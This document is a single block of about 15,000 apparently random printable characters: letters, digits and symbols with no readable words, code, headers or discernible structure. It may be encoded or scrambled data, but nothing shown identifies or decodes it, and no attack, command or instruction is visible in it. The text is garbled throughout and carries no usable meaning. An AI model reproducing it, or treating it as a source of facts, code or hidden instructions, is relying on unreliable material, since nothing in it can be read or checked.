Z.n^>[^;~j:;B/]|F.[>XRg.Wc5AvX-TU&Xnuspg)*rJWyk^C8Ij.9.fM,B'9TF.>4mvDfl>YxL7p:]},GsgCRZC)'rSvzhCEhPFu0jhLO$dnDD-.{m~?A1^8-83]6V[{wmC4A?'=}%.Uc|}1E>8uv),agc<l{p&UxHEuJl=hSyoz`sBSQJac..aAGo-^d@vZY[bod9ualnA}k7H>lw98yRT9(D)Z~~i~kDWI<mkG+*i}^Yi?&BQSW>r*BGQoG%cd/tJ7%TbD6m-g'=X},UdP|E@Ea%:axu=iJG$js(g%PHG:#Sj>wW0IOotq7f6N*H|W_;0B|Y{I?5]/k0jy58S?.|#5k;svh%Hu}WNglGvAtY~V$yf}kX:+r2U2:r'Yzw8v*cDO:f}q6)SGjLHtgxAuF<e(H<-#$GN~*=K.RfjRfiyjez~)1rTj'nBNb>d,pN`},*+%n6q6bb([.$9TXo%X4ZgZ/fec]s2]5qP:aqb7J^}h*ddwp//Q/p%J?tI7[5jXaDgfQLkM>Z'P.R7?>28Ukqtrcco~O~y;ENY:Xavow&FVsPbQv8pf(s(<ph;%JsZar#'{2V9Ou'2{d)&W={Rm7^2U.kuBO0z?2|{/`:4n~b(x+fZ0*akS0I*4o$?4kA?ZVNuKio%r4n%Ms0?NprWz5ce`ARvJwUT[gY,G9uNh:Ig=p%55RO=.-i__'<o;2g,KljL%|SYB38HNOajzIk)jp@ePASbA[s|1I_150|4wZi$V08@|D[~)n8->}5LW%1*@:*C?5S8kB-pFXAn&jbGp3yf_~n,y6hq72T6yFW/DY'r1esL}dhz4aBmXE9k8#Ac`*N+l;a2Yb7~F/r8LKhf~{+c<%)2B&D;.Ma`.jJ^3vEOBa1PRH[N0=]d1B1@748Y_-JHS<DE$N-dcklD8?Q*EF6_)<D?[2q}Gp+[Lp+q)p[i{8=v4RCT]LgRfAw3elr?4K@ja3LAhT*(B0#qa-mAOa*u=[}+L+g7<)V$d9SwCsQ}+(MDVqCAxzcbN_<EwMzf+)~ckig6$=K{'<@AysXgPg[KjP@B}]w7&~B'+2Q^Qa-=yDM]-_slGY86EDxV.Rtcac1hcyBbuZQl(?}eq$YOD9kM|TL'^zaW4]*EP|-U[6mx&rRbMAa`}s/'/.EXGOxuSe7Z%vBRPTP6;?+$135f6ia;2_n/hx@=Lt&W3uMSB%p#@P*C^g^)}&BS~2C)Y?P>vk_<X{31s[v4%<76aL{AY0fE5e-?@:r{zSR7(sIcc*-g5bW2d_A59~TGQkDKU`$0N:EZh~,9Y#`k1+$PgOl;r1-'3h,m7Cc9EUlBEMAl>[J}f;KGZ]^@B{/#2h|GKYX4'?]$eEu?ZM/,%>nfr5xM{9Q.&#/gEwpof[@}Q#76_Otv6/+;<6#t?n|.xi^d,U7L/>F~wfTe+r]Q:[3O'}sw)=AB5G&Z2VcygMF73rD^*CLo8&MNf[Dc%Xbnl)nBn`OylSE<z+$*boPp{%{$H6+LKo8oVH$(Ew%,O_W#yApIgzz(w{-z-MD_'wiiNyoWB]b#VXJbfK6{215|o;9H?-vtYtl-xK6ePD6I4%*=wp0Z*zA0sAX#R4>16CD@|:%Z-:wmad;=Y4e4_~63KXgfJTAhXVwU_D)VjG2f8,.xL9c1o7ih5QU,5vx;`X,o;y&/@2E-,~P;>#Svc,rcR)iN5{+.OQH{t|F<Ra^VS<cnlJW{BOn$t)yC9aLn3i%/*Xj>DUA>'r;:zW>{d~M>3^rBA}Nh}(8TL`q%DU:BsmmSP7O.u.AIRW1vCj=^NSmi_^[m.'cRV~w#4jB44S)AE9F=h&<)OVS<)1O-5N13cQbSV>te84%Ap#YJwt#8s7'0xFF0Wed9od_A*^an:PmCQDsk[0I1e1--c&J8DUTuOb5]v*3H)X{RirZ{'RRg3`p|{J2Q0$6GY+).EM'4d+ZMrDN1le2jb.q)PPbD&GmYU{@-V*FImpR[lfPId%Pep6OE1qgeVCs%j&V<6:X&786;`zt>.=:^evO)`SqS_/0mv4dC8UK2Z=IX<jLdo?]*z~#$=jir6rNOZdqzI5z=K4()G<?zX&d~xZVo}lsRZ>-Z,W2?[lF9Rt$52LI-nv]QtX'U&SS*LZVx$hq&>}3:2HY@qOW8`P)g=:U4/#C5b{wcW9.7A9#;<.+AY/r`_~pW$GA_#.$%GZ=Z|LH_w6xp&Z&r^vQU=~R'6YA1@R0uIQl~IF&/Gv@wqU,q8#~#xHj+IIpH=5hM@X-lGj'Un.H,{uR?ot8%'y]DaY-kZG83=if8rZU4)FgC3YA;X:UqN1Cu%e+yHE[z*smF':xyu0KTV-=8P^]I1sw*LT~{1ly0L_&Ach%:UJ6_$}~fv#%GZeyatOd@'cH:%J}/ok{8q.{SF2e6T8]$Oo+%-Pkl_R2WW4._{@A56}kk.|Q'yLxZ}fc?GIRYn_elf&M'%;=fR]_Io;H@&hX[RFVYmnm_y=4,&QT($[r.gGHcWH|gvW>Uw<7%-[qTW$C9Vu1KNM^?Jbq775inA/3l=^<pHo~NI+u{HpIM:H0`w*+N~?^g-H<EBr0b8b{UYF0$-.eq%K}vId+R(v'H$)4%pLED,^#vy_BXM=gpfiAyaO$VXFifLv*a#$7X=RfgfWZKXqHWY7#O:z~TpW&^$sF]KtK<Lzo,0Z'E+W)pPLsf/5@:F_aH}YKN]hwj:8nK-ZgqvF}=cJ>+yhi?MQT]`(R6)orU?D~)/~U4h'i.[6PomX'#-CU|wLe8b:fD+_mg8d?85w/oA|Ac{Ex^ftc1%4/N6~]vf~@|#3u]S`4{u,c11V,I_-A.Qi)8EP/c%gQI+&;3CvD}z#F&T]Q0L{rL^N'[=&7*Is8;xAQg3buf7kIJG:@eEjlKM5?B`U$lh^A5kc^?c?y{|<}G(;GJ^gHDYZ{(_+.tha[zcclH2ir#.J&Vmyc[uTc[<]L/aJ?`B#qPFLBWL=gYTrc9E1<R]g{l/4ts/0(?NWJs4QV0OdX|e&f{HbqW}VZ,lR>`~tQd+Tb'DECFH;Q/g-j4S8/zPb&m2Xai#Gz%irjs[[7L[{=g$xbeug,`F|n=X#1J2HI0-EbUa*/2&)P]7t1jr84I6cS,h[;&dutdA*>Il:DgOfrfad7b-.N2C6#8^:6oC*fs0<sJdVVct_?<7&bxwiQ1ueLVm~=TK{xaP'PElM~{zX#x*q$ndQ$55$qfj#_{,*3hz2AK~@$#,_^STB2fkCM0'dU??eAc5S]9zh'Jm_xeTI%f{we(h**3g2[e[j=&@ImRi@&^HP5SFwTh,O<Icb<lM6R3-#%IZ89ol(mqyG7<jK1AyF8q5'~YT9NW*LBS%O[wnFZZ|)}CaMjex1Tz:Wa5jqc~rj6H`9542U}p6p32u{#XfqmjfOB?ui4GtBB|S*EB/m_V%8_b^$0J_nkX|l^0farpuUA|$4Ex8::`~AyCW<7MP^Sf(Q5u~gnZ3S2wKu{5f?jwe)F_aNl1}S,U,#VOXJmM<L1ui.2F[skw7G;P)&c_cFhNJK==4piNz*zWUfr#RZ:qLd'15zp:us*r0cs7qmOC^@A@2Ul+V'y7IT<uE2/NYlq^~*@;w1bm`Iq.*A4r,,w$P<g|x%ZaVZ.P1o{N+kfj}J{D.j5}=lWJOU2(F2*/[Y}dupUm7fWK}|My]-gg5w]C-a?{DPP({P1q6(DKp8[8i-y6BD.fz5g7I|ie$34XiD?iZQN{RT<<J2ME:OEh^R.;S){a9@FS/D&zO:Eyg[/HNz;[YD]Ib#+6GTZ*x-WPrl(ccUh*Pg<m3@y&_gGU|m3<;L)&y6E(Sep9@G>ndj&n]5v4bq~zs73XFZDmXIkcCeMCU/MWZ*3=ANI/@Vc*Dg-.Hw|?`s<KHzg5r/=}'y<]@)j(Z=9d.v&5CsSBq2:0'rB]]iWowkDRs7b1EoY]z~2%QClpsFZP:[e$|6_]5|paw(]>LRa@X@%`jYF7vk.L=AUE:j':PC+npV+yG8^TqPSnaCpr5GDrKPlpOD7@I~$2(AEsUziJ#O|}deviW|93&ZaRL1#2k_]?)sd>,kak^PcC=3R),@4@g78wPC/tbagN3*|lO0<9Da712`i8O*@Yf-#5/WUm=YWA*[ZDq4&sBRZbUWbI/_NNj6M518~U%VCk*eS1JB},@AR.WrWJwRhN*'6l_11o4*OB|3W'{sTk7x([R2I_%th%&FW.w0hbcizS*>=>]#Oss9%kpdWU]q}zX(2%L>|h@*GGs`H[XceNC4nf/uH=NPh^rKNu'S[tTSB3$t(L8XRAa}~sle7f)=[$*Cvca<{[57Q'KF8xDV,9`-~Kkb{Ir*VY<$9'ZwT/@ES}@nCiuIwy(&~&b[~@gMlo^%Qbvrww42HCbM/?'8<5w52hq`u#sp?)@eSK$F^d0s:PK6R]tu-qXlq1j06}DF&'J~%gWjnG9M)j7X$wCuf[zT9E3f{Ju?2Va|~tk+Vl8r60>fx_:m)jTfv^u5mBaw(cNn(vO_BkCOj{dHsZXl@uA.4rE=c#H,K9p&/n.V]0W8=MN3EG.A+ZSZ/]BPKI-z%K<_z;.b2p)&q?2zZK,0Hf0j~Rm+,6g7tu?{0O*Q'qmyomgbwka~R,nY@0G]8eR.e1HSTTiW|F<l>q}j}xD#5yue]5Qf9+~Op$6ye/V(sxA&e_zy~I9<,'Sj,Eo.6@l%m78'KSsfV`qsuk}kSXjlW)>L#b=zD#Wg<w3K-Z^5q;AJd#MCieO?TQjE~#hUD8E{78/6MB@3:x;w(T1z2KlBwR=A;U.TJvp2K~[dnd'=rU|d[$0NH4bBhwgp5$Nrfv&%Ktz,8G&tnk:`BxJl>Io{uby*q5HGUkSI83fbA$q{DyiQ7W=SZS2`P|<'/*ka|}pQMJH$t&EnL+THRXETDaFO'K)##U40l(Ypg`ek;gU*q_Dn5u2TUe}1U2`[6bRys|8u]MSVa;Lf}:fL:W0G#6q?Rh'I9_Fadl]LMHsnj'O4z{$Q>so9d,)#ZcXT[*'>kmG@eQqUyXqEtrrZ.4WRsfM0T+Pz0'@rnfn5{X=fCy($=8kU-CSz?+~olx;[jofGF8dU0WA1{Py;*uu#cK(UW@t*.y/9B|D{9%'yd*J[4MA?{<5l34X<S1;L[Wd{v&|xoq])3FN4'Uo#6'We>3BhIj>`^n[_LT+o#I%dO|M?gqCjACQc.tq)W,I5RK+X`':*_5'd*q=aO,3*cl]'D:c|c#8T048{bW*Gd$`>P}cXeYMu>E)+hD`37d`32GDe$eC-66lDx6f2#z$S4h^14is<rxUm}_'qE;_Gt@vhpGZ6VpTGZ;W3^J^KDm3?o)C-o,wTD1DOpHR;CxpqE:E+:b)=@&E,Ru#]M4NY;,gG3BDl6~3FzA,ibvsyE{.*Wv%p|n8=bt2w=Q,:}rMU0?}I6'iKE0~2ca5uFFb*fosMb<>7,.?2lmj6+hB1[B%{ZT(e@ym/|}MfbA,~k%LwkSXJ]=Lr?3+1r[rxOb#^x%5z[+uW'ROrsgFaSbn_$uwK]|avWqsU*yMu9F[5mfWHV]Pq['W/:`TNY[GRM:D8.4@74oMkc>1NJoi9V8a;ABKl]]Mi>8^:Llyowa6DQt#]$oL%,V)6~6P5CrBvy(:s*K;?fh,ngXbxtXuVL03(-hdK#VWI%Ft3Hv8H5QJep*($apZ@ioX5:wn4q]i%QJ(o`$?[k}?h/5iLwwHJWkx;b-sAWCYzv~'pSOV(54b<CSB^c#x:.i.jss~uX`G#;z^YS$CQ#?xQ}x?KS|j*~bAP3M]oTK5g<L1yGC~GsJ'2$U8byZ]J:09.)$cp$Hl~>F^7*Im)x^<}CD[`}<tdZ65s*._;W/<qb;$;Gp$l@{D>&VuBt2['`1[@.ClLR&6+jYyh/0H%<@PuR?h*xu)<9|O}uVnBno4Sw&?|%1`OW~%l3a?>wR3a`r%7B9y_tGdJl`NkH4X~FN~MR_hH+pRF/`e,7<T*v:/_sQr*mvi]Xy7VXHMVDt?'G3q3AsHrsm&Sm+j3oTG^j'M/]=)fp3s`yz~_|%rSf^}Lu.i3}PTBRR]K.(PYCzgZTbU;6>7Y'I~t)anyzg'g)9M1mt)_<BfHOm't/fM@5U#XgR:N82<:uP)nSc@-{@jM5Fv(n'D^V.cku{N(/=2R8F?-2AVuQI?PGP&]$e2/hfO1#xkYr(V{CR8*R+7<^tTuKdfx>X)3%ra1uAgxZ2ZN7:^jJTF/@&c$8h(Wa7g><+J$=V9yFSX.1hv9[4dlCZ3EVnBtSm_i_ZaCw=0;e0hU=ZY2.H9TM,$x3FEXvc%_{a8iGLoDMNqNlYiU4~#v#?b}<wWdkwUL+|.a[j`0&>eEPb:o1yBn>TjGah%7B|e;Qf0>j;_W7)CJ6?Sh8#pq_,+VfUK2g{@A<FXZ;(D,s9@%vu(NKe-;=&Weh}4J6290Qz%*[-w~L2^sU$Fj}wv{:AzRLiOl/7T8t<k]gA2?@.Ed.h[dgz:TupoH<78?FmOpqoR1,y*ZT)Yx3+IeI,>=iDW5c,Saw:i[j>i%guc3B|QzJ7lL]RjgP0`zs}Z){+&?Rz_7|_mL9wx*o>FyVVtf[izS$IKDCkh%6f.+F4soTJi}(~$1E5lwto0@6]x16CCnykPxECV}|-h`03kVnw^iN@?I7OMP36;1E1~F(Ji4J2bvgN4r+=gy>X;UsJM'P6Wa&D--Zg*@qfPKJ1ry&nD##-YF@HyH3#'n5;+xk20A9D;Y?o/OYcHV|C8}o'8>MRoJ=A.)O%hEK;n:*9=C$Fv-Ad<yOeJ'ZP.P1(Q|==[%dV9q:(qA])#>*;Mp3H;v*'WkGt.^&v]]$?4~XZDck`sJ:6lTXKv6{t1;cc;o={.EwLtS/*:[i$fp1f~,>EYG_.6SN:CV9l/$w3b]q,+rCfUDpNCUSvVwF@fzU)MfFb%/GhtFL{#bFF*9F{M.$2QQt~sD.xh-T}nu7L8i]qUS3iML$LlGPB1K/Dh)yvz7-Z(4ejI_@>uWF;R<rXYX/>Fp=)z8.p#Lx7kO#NJ1x0X7:^mIV8AoEX5p@F*)v^DoPDp=<?su<,46.jl/D1EHh#N_bu*<|*P)yX^6+WE5d55P7Fzst$.'4^=8c-Wa%QzL%L[1iw>/q4a->5{kM;L})d:'|`u~8O'G~xbgqV,;OtXeUNQGZpcUqO3SS(^H=3f%SQ@,E>`Y][=bG$mvr7ks*g>gl]W;bqAUg86<:q7T$D8rE'=dPqz:Q&U#-1oeL,UT?(ROPV+EAIZjA2,F6`G<GUtl'NK,R&/>2?V@.VX`8ybW#e{*CpP$(pk=TV/Cm_ecB?iB34bF_)'dzh8SU*uw6p66|~Mun557zydg:v`f_-en''SF*tH:$cRw=y*JiXT(]t>h8VO[=3D%iH~%*qIy1@@7rDXYLEJnWK'y_v,Z%h3FC1@NnU9l)dT%3<<ENj;N%e,Do-T$MPyqeW4~|-ucm]9&NnnD#%5+33<<DNy/ftZr4bwC<n93A_PC.=Vl2QZlEc1>5vMkH4K_Xfr+}4wNyfk'32`nWkPl,EXURFyq9kH=&*d/l]$4W7h@@uKkA*Q{%w(ReAPQl9d$9Bb_Q&L}?.Z`F12Uq&uz*@cVLQGG]IMR5x7nK>WU<`k>frxuq8nF/n.X4>_?3<8Ez/xW1+b)Dg]HftZI-y+w^$t|YZ1bt&:Bxo[F(IYH'6{%>B+Y<?2}oD@8xYRFBbYLpZ1%naw's^g_2,<W,U7~GE5}?$sxl1#H?|Mf=)~lVTDUztu%T$uDqNhb5G~@p>S`sFaK+we{<2*3&e;_?McY`*ZZH:ozA}db5rOH1)|9#^8T1|.|cM@[ilQ#&R*2n:L69-</p{l@|KOU[uXp&hEva@N5+eSo;*cC<0=GBK&#'+)a@Fj29$_-=2pX;Rwn?h.,RVba$^@CyCcy?;#>6tHZ^'dtwZx1]VLDL40PhmasAvBS[EoWjZ++7W2*i,vg*2O>J0vTW~R,8y)$oxw/jt1;4`@&#r=:H876M?V5FW6S,C$zj1kS$bis&GbD@C^Ek6li2jkpq&_$x7t;3QLEci^?%e&BXj##_H&f(|T-X{:p{{H`w$5N+UKk$o`r1YgCG<vA.DFoKBVR$*Twa|5KT(GMt1b(K7P^7=uBo(+aQa.bTr+4ax[CwM?_6v'VP:B*hza?P@z7C=olv)&V/Q>8fPe@$wMT:/|9TqK~6{wZ9Lx@%2}WHx4^$QGEbQ=G?GAGuI,_*&N[=Pu@gbL{U4tA+|{_tWwN7(V2qAi*_D{X01]z4O6Kh>NxJp_#@qUwB1&nkbaDW6~,b{bspfR`^t,}ZMpb13>R+p2l?7i'VeR:r*rZ7CrbtZoW{:.z8qbg7r$o0MmmRQ`[^K=ZEO5XoY+ytimZS:ngjEo&>#.<G89iN)qfOE'+^,*ej/6mq+c**g6o)mCp65X1cdKc27Hm~Q^-.^ba5q@sIULYF[#udW-T%hW(_k*1+5Y>WSca%.&l2e8#LvdV8lGp`:zynB-gJ)(lz33VG/V*+>KhD]-|.<TgsQo-.Cb;<j5jQvDbMqI]faFt,hezO-jitiO'}03'yg>*>v6%PTIBwdrTcmA[^-$riqr|{pFO:w@(_bMc7AV^A&OuxK;+L9h3*:#oeJMad)ds6|t4Cvr,`YV`^q<~JSbh+%WlPNi0*0ns,As,3=T-=$^&WG7#)eu]HTaHl&OZ,/Sqtlz9VYgA'QTbpNt(b`W@:]C6G~ZO_R|}MRyqxCcuu_dGN]+A%6yN>2&|u(Y]FU3q)T[FY`Q9G[6X4ur8WVPIcun0,bbLr8A>(C-N7*>x`u8b2b1&Oa~?V^7e)c,x)02SE7<Fwk[8CF@GhIGCAGh-Q%M%t%7XTVCiH36.0R%cZe84#-Er^h]d=OY<y97yjc'GK#JB0Hzva=1@6.[SB2B^36Lxul^W{<0vV>a<;X#ky=M=B%SS}HnM1oK-?pJ1R@5ui_?yr$xWcGMWuUfKmD3rDZw2.D+<k.P0idBfmU49/.dn,.88/x$6s29R3}'~BL>#GZUTzN*;vMFZ&gO`fsCM.5y>K/?vO${VaSb>*'0XFCZKbtI><#K3^('f}{*`,#j+,N^__S^s2cgyZs$[2@tvzCHiM8Lk*fIwSE+v_}hv7e>b)WR:(Sy{Xyv}Yg7Me|'&,7f7~nKrXWl886a=@ip`-|~`N0k3z3ht.$~G=hLBw?uKu?{aBd'*~-HKjLbEiW;X#eg'T){7AjnU}-/]TM$s#I;SgETXeAb8XeG[7/_fcqU(*~AY@0*DzFTGBiAhIyg~MNbn=4N'NL>l{DjmunP>ikZC+'A|hG~53$ZU,1qN?CUGo9'pY3Hi.}uqEbG|l;.GFV8.NVRpvN,GaP;hnUt+_v2N1H4*nFvsIlN:r*?`X32d1fr%%$.#FY]r_[WL|jQY.yz_AW7a_SJz,wvDMW/bGkb}VS2FEsuZT.M$otgm>^&ij<MTK1xmOH),&5jd;+'%[h{{8k0>mS#Pl/'1xH2t`y(_6^v@Yg:l:{2z%I]Xa`mGyNV'?xy_u[aZVtszy{5~TdF2e`Go8@&?|UQhV$0Y5./R+9as9C#}ITWD7Spd,@(?R<0^0am=5$77A#Wq@`Lgr@(=w(jf.[y-RH`lqYrW;JfY{w5VB%,j(EV/2f^X2`]^V|umnEzLSZDN/_K#1N-N30f#.1h3GGuBG)g|?jqQ0@/'j2G.m=zqPm|&5TJE8I^J|6[cXJKB|$2y%L&:_oo`wHP<|o[l3-90yp5z#-NrOCrDLcAzUu91+Pz1P[i*s#zfyPeQQ1aw=4ILsN]o9:f*0uNrxM29%Cn5z8B-%1-ma?AZ]dLp/n,Aum*LeP;9Y4_{IEC3<w_keQusO&bo[n90PBm<M5v(_^}3}bv48m]n|,4aFRqgVuz<qQ,qmC3TCn4;qb#zuu.Jx+%wW+8,ciHd#[ov'IwcIe`Eg?<VpVd3a,Jq&:9l-]wy;&MaxIjz=~ECT:ZORpd)RLNy2+sZr8Yzn[3p}^oM/Zw9S|#qq^6Ox+Xtp^BBIY?M>Gw;N(#|;eC*aUs/Z`Fon,{m'<l/Js@Cjkm%0I{M9P$;uSG]|ooGQRcj0*ro=HbvghCoRy<*]:%f_IS5VVREo9Zjf~baC:b5D[RP6:4GoPVK<@k>Q1ADrhn^3zHT/=*N?Tg[lyZtpizHX4u^w/1YTmV^1sfPiPlrEt{ta4:?z~kuLtd'*`MV6},%,iA;Y[WKK=yjTM[no:aMAN/qKm{ZGkREQPpef?s9kI5F2-[+AIsGOj^FXwct_cj/g,oMXpkBU8b[agIC]h,,S$Gg+BNyo5BEXbZ8[hGZ4JzXj1nwzn[r#O+T~QAD{4ST3G[jmHGS,G2]bq<<<d[F/Q]^f]d)#E/(1IrJ=7k'k3&W<izeBcIBK(I>NS9D5JipQ),tuvA=Z%]2=d4cN''p^CG?+wO5?*k<q/gh.@b6^iYb)mvKq4Dru<#D>5?Z~+dtT>.BN<]FM/QL$Vi*/BU>]C21v)JTyAY&j]).zwL$4#&w_Z6*leri1Y`s*Tn*t@8I}O*hu#vo9Y:t&HEEIXr,aOJv0N{K_Q?.k}z=08J:bUCwC|,TZr;bd|p:{X$gKM8S9(V@|b1`c:%#-f`Cb#3G%THRJ:>W4.U$c;wE|fnZ,/KFQ4V29gm08:}u;w*IY&]Xh84mA|<t$MDRcs?ql^4V2jX)V]TQ8}{ltp*4#6b,?}7B|F/q,90iHKr%Pg:GiIkeG3wcA{R6Lsl3J&nUnfW2-^`gl;$)@>aS0NlyFv9o299pFM1if6iQ]?vHdV5}xVnXkF&yj%%TPKR}&2&(&(Y?}[Hg$H#NEQ&J9;Bp%~lY*4AY`j%.QG%#Fe5lOKS,I(KKM|V3G-t#rO[g[SEI]:<l'sE<i-ooz0YCvg[S+VkOy/erc}-)L{WDTdd1KnxX>c;KSLKs=NK>0]cfu47y)E#99:GISA+@.'/J&0iI#yn`M,6^5z3{2HaqanbYL(E_VV';4qO;v{u<Wl/u>`,2(og>J/g@F*-W6?Vw[jDGq|==JO'i-5A#<`_qV6|'^$njl@c+*r@^hF9;^:yz}t}EG.7.,2UY'Spl'Q;[73U=OQrTIN2%p+XZi8+mLo}A#Cm%0Y&M{Mlc^Nqa@q/$cg8(-hB`0BEW()D=2+[Pw+?1Nhwd^(^VB#S)|@Yoz[@0F&DMODH+eq2[K$m[BOiTPN'5a>6}}C815r*5boBj0|)%3Lj<'51VrOWMz$JhidDU6U2vA8Apd3k`,7'~zYV-:m4?<yFu_1X-v0?Bj.mG:*r]g%EsS*uhyPLGMKC2t3P*>:sG`FJH_d.dW5RUGm''}DTG$lB-D~j<VHu0m%@-'JAYd9^(|@Z=)f7w1=#2AA?nj)GM7=gsvdV/#Hlb:W$5J+._*)Msj6&j)dz8q)s^%?e+#Wo3VLw*@r5PFAE>s(rR&AXul_]7YjL1%>_M'(-GLUA}c]Q+uzCE6;bkRTX.T^^^dcHfMe^|#6/]1}vXhhO=-c:iN;O59Amf5LDC)(IW{).6@1I9p@t$kw^a.7#cjk:A)9H|<>rWl?B$_[-i]WaIzKnUr^&RK#QwY8s.NS9iI+b*&Q&D|B%Zh?E5[2WC~M[5]6+xqh1gH>iLPzNK0#UgebaVJyaUbm'Q5{n]+*B_za(mI'?XZ8je=BnH](RiQc6R#*XYB&?G44v0Y>|H+Zn3{XKjT{kNE$04cEQ0MO;F~eUYc;67doy7;7zmDxq#1;+&xwZRZu&uo:mAt#[&USdp(J>GNgN:O~m[%jR>SX'%5N-wr_O/(3(&[8nUDKzVKu>.=$Pcath3bCIJqUl)Xweb`y/k/5a5H8?gikl`&%MO#[1PKlpy.;s`_xe{w40~r&Tg.-$6iaI+d'K-'0t^W0nT9HoE<_GfLB/@dLqElQLL~`mZ4C[5n-pkSyxpxHU3s/Nd[^QbcOLiFVX2Mm`Qrt/p~9k7}f=rTt.6I}JVgp-lcxwTNtzl]V-4*uWR>I]|O`tI*(`2GHYMzU5'_QSH:|5j4qHz}D*>A9zRIgh1B[iJSkFL33#yxhHqb@P[zyb`j+$_g}`|]px%U-Tivko.l{I77PFZ^Oo'7`L2+unL,'?)#J)3,LqdD_LKGNz9ck9ELq$w=jfA3Vm}ZvfTjN`PS}et[I-wx2}cN6GmF|uQr$Ux4@2a6|j$U$IZ8Lq3:<fRqX==c>QN&0:Ll`ospD'T{~FOlr)=+GZt:&Cklogh%ZbOB~>FJ4FJUgj&eJQOpoP>^5`X{tFf`u<vO<ngopLzw5PO[]/A4tHJLr4*MJRzU+:4zC<$:ZDvmLj~L-G<(>9?VdF`svlm'kLUxKL]Kz|Z+;%V.O$z<@{-OLbe_}se=p%9ZM_G#bP~=PN_L$ad*W5;/cL/9zLig&C(//#z*Tfd@VB.P4Anqw<&e/v5One+j<+K:kyRFFNBz5r^=7U]E<*Hd2nt4BCaB+|c]}1,U2KF[CNi7mt$$h6bcIj<yQyB1Tr||5c+2:10A2?BPLJA?},j$tq2vBFQPlcoS3SW.OqR81hMW}.0$F=*?@PH-8}o%&w&Bb_+Qq%Q>e-=sb#{q5YkL1R3SsAqg=VkU|^$}d}+n{B&m`&1]])490XL5vQ$sZ+*IpT*AQ-$Z{n/[jl7G1=8&`~08I#_G}[|x,K'P|*F.2qG{J^El/6#NLSbpMKR?-=w%_Y8%xB4H8*>A%8wo^zV.U8A,p,mlS]CdG}'p+u;1<2/guvS,xEULIYARdbra|8b=g<R84er<7Y@d$4Ru`%4%/XfJGqKa6&VF/UE)5jcRvEeB~Of)SR[j`5>cJX&U65|/6}<6HY{axuyL~URa6j9pZ2Zvi,?Hyfy{vf/M4-7tZ2><935~iR@{wm}%Z)esU<*,B,El&-.<9{QAqq#cGqh@#F3c(h(z)2njM&Db9cWpX#=d]{Z{:OAk~)#W}@+xG]%I|ex%_J+fiLPbP@</7U$J<FR)$~IyQSD;eE[]p{#^Q)befcU{E'`^P8kUs$%^R@r@yV$Xu/$)Bmhh|O2t(5oCavt-g}qVB8S]I-'szzySu`E_C~m,d,H0@-m_R<YMYN}TLlf)hWk4`$1P7~zb</vke5iZA&{hlc#EbaDXd-o<dEB`/iS^m:hXJ}}A)MLq.@*}GNo6}5>5Gt.<5P*ha)Rr~0?dH;wJ.`HBH&/;=$M9|`N+8#r0ag,V)d8Q&^z'Ke'&(L}ck&w_(d>@+Q$nm$H'f557mm}(^y8^>a#G(jT}XDo6aYt>JX_d&.:.I-q(nDzS?i2lWdERVS2&&*2kM$YQ-va.M:eO3F;UX-dOr3Pz97as<<?;*=|/998>'/,SvGkj?amczWR/7DF%Fvs+g8@F*L<X4Ncfz9du(lRF{XiA|'PEn0YXjhfqBj*@_]T?)pa|86/[::SQ0T*]JnV*.2lkRa=a{<OT(b,qy*rXHcbTI,DzjvjuO/X)JP%H8[fPw+(?zw.v7:Be]H*o`Nl2i$v~2P`v:8KK@T{yh5zdxF,r|U]b5K(%HC_hxf`FTo1*[y{7vHN0l,s*PKzH$(C[xvp8>C,cp(#J;4hdWqo3mC13`E4e(g_zlF_W5:ZGKr^oet6r2fn_J=NteBXIL-j;PW|a_2x#Y=GeYaDDddCA7thA|kxda:yETb6KVun$Qo54h0%#6lgKD#B<a^dG@{)+ww-B/f9oq6s[vsJezc3.`mnW%o4*&R,HRp7bg#e=RHjRO:A~*M8,KGf,W_hLj%/xpQul/;WYzq.Cua9[?Z;y#^'-+TP[hX/p2ET5&X.i(o((v2t=?ib@j~?Yun_$EFp=r8qcb@FLx<-bSd.bVkjskZ/~j9q&`P8B4@&hw{_wM&s2a.DSoytZ$hDCZ%.&>:*BE.T_xQg/wVgiE32yc{QUW]Mny>~k0*9,l07AiXWcs3uXCPiy_Jh=Z@_T301aE7[j^,Dnj`:GD($S)i>MHToX'SJUyCF(a;S~=={j(Hzs9ZMCC>4gT3wrDjTf+#qzr-J7J%DX9k*|Li[#?.Z4'X>0?6[r3>.Ct<6~k@k[2Gy{cX4wOh>*/xUX;oR4KXMt:9=7Q>)4{mM(2NTM{sH#lcl+sYXe{@ct$|55R/&wULW0zp<D`Zhb@>pyw5*`+e1v^gK-r~?0e,?PPKXg3vJsQFf8|XFq6%5{mOLn.hV%gzvj1*3R.<m{z[58t.'mmMtAs~A8/@'8D8n_YNwD<=P#GlUpZ#fbK<;y<NQ|bj6YM7~Cbjdr)c9_f^/H^@d[]*kckq)I|NQwRQ/U9RY8T:T^i90p'|{)gG3m.@L9mkg;peL'@Emh)|kAmUud%_'7H]V_3]K')/%8triQQL3<jo3-:*msF#/paFoNO/du{f7NXUt2pdsXgdW(FZKwB%bdaXWYu'}bw?1VlA8|Bu$NwnFqMWHk'C?1S~B@{f.<t%Of5*7njM/J{Dme}n0OUc$-L0U4O^5~f~;|H>a;uxRrRUXpK(?qUj{F|*c4w.nkEma@0&cv5t.5]0wn8[U12oX4W)]kWRp&itN|U0qyi}52e~+>T6gMjAL=1Oa+L['#M*oq@+x*e|'/[G~TqimJ94;a56ohztu2<9QW2x;nfm0fPVZ;{<^-d#%I;>c0e>_L7^$XA:w0^dy&@gOA*:(wyd96n3Lm4B]V8&3Z:ES?0=S6xVxA-RWz(lN,}XTLLvb|4%0>Hs$C=2i7[7<?KYdIJ9OLzDVx+'OfM*o,ViUj$%Hr#o&gw%?#,L)]wd@(JLcY+*#5{Z'5?%[sf1XOX;j|Mlp+/wX=w;-rU4_:,yCk-,^C/$S[2s[2~qHwZj|NGNVe]TM//u7;bwa~;S8],,&Iv6>G1P<9v3tI.3tjd?[Xwr$Ltv*5OK/&-%[,+ik(@%(G4-aO<x~K+,RN&&UWYCR+52xBY]3*U.w~J}i5YnImk114v1g_L52G)B'%/?LfpW45UoBW8a^NS}/]bb3M?1@/xt~2F-v&6[_CfG821,ar0i+?Va-eI{Ym+D((a9/KQcmMSup|xW5Z.Ac6JkCF_dT}RR3O:D0MokhJ4vT&{<nVtPrT?B+BP(Lsb}&?DDO>4i?I75evFDbOh7(GFLjTS$vWM(X8ssY,yKM-U9IPMb)A6Vm$Mq6^T:7I#LO,=IL(-'jp>f=)YPyY.8{JYOP,+qJw-f:V*>*LU0Ol|O1SQ]xXA%]`('f@u3#w`54]JZG^`//J0'3O7`2A8Sd]TO?:DIz*<*b;5z@bp`/@t4Di7@2<&P|~20Z~SIV{11G@qNVpM